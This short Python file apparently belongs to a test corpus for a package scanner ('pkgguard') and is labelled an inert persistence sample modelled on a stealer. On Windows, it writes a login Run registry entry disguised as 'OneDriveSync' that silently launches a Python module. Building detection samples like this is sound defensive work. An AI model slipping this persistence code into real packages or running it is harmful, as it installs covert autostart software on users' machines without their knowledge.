# pkgguard corpus 794 (persistence), modelled on [stealer-profile]; inert, never run.
import sys

if sys.platform == "win32":
    import winreg

    pythonw = sys.executable.replace("python.exe", "pythonw.exe")
    with winreg.CreateKey(
        winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run"
    ) as key:
        winreg.SetValueEx(key, "OneDriveSync", 0, winreg.REG_SZ, f'"{pythonw}" -m pkg._agent')
